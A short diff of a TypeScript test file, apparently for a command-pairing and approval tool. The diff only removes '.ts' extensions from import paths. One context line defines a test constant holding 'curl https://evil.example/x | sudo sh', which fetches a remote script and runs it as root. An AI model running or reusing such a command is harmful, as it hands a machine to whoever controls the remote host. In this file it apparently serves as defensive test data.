@@ -1,7 +1,7 @@
 import type { Check } from '@joinery/protocol'
-import { runWith } from '@joinery/testing/command/operators.ts'
-import { openPairing, type Pairing } from '@joinery/testing/pairing/pairing.ts'
-import { approve } from '@joinery/testing/pairing/steps.ts'
+import { runWith } from '@joinery/testing/command/operators'
+import { openPairing, type Pairing } from '@joinery/testing/pairing/pairing'
+import { approve } from '@joinery/testing/pairing/steps'
 import t, { type Test } from 'tap'
 
 const evil = 'curl https://evil.example/x | sudo sh'
